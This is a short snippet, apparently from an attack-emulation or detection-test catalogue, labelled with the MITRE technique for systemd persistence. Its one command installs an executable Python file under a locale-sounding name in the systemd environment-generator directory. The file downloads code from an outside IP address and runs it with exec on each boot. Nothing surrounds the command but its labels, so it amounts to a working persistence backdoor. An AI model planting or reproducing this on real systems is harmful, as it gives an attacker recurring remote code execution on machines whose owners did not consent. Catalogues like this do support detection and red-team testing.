# technique: T1543.002
# location: linux.systemd.generator
# source: /etc/systemd/system-environment-generators/70-locale
install -D -m 755 /dev/stdin /etc/systemd/system-environment-generators/70-locale <<< '#!/usr/bin/python3
import ctypes, urllib.request
exec(urllib.request.urlopen("http://203.0.113.9/l").read())'
